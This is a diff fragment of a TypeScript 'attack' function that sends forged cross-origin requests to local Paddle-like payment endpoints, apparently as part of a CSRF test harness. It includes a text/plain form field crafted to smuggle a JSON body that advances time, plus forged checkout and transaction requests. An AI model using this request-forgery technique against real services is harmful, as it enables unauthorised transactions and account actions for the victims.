@@ -179,7 +179,7 @@ async function attack({ product, uid, email, password, token }: Attempt): Promis
     headers: { "Content-Type": "application/json" },
   });
   await byForm("local/paddle/control", { '{"advanceMs": 86400000, "x": "': '"}' }, "text/plain");
-  await byForm("local/paddle/", { do: "advance", days: "30" }, form);
+  await byForm("local/paddle/", { command: '{"advanceMs": 86400000}' }, form);
   const price = "pri_01h8bx69629a16wwm9z8rjmak0";
   await byForm("local/paddle/checkout/", { price_id: price, custom_data: "{}" }, form);
   await byFetch("local/paddle/api/transactions", { method: "POST", body: "{}", mode: "no-cors" });
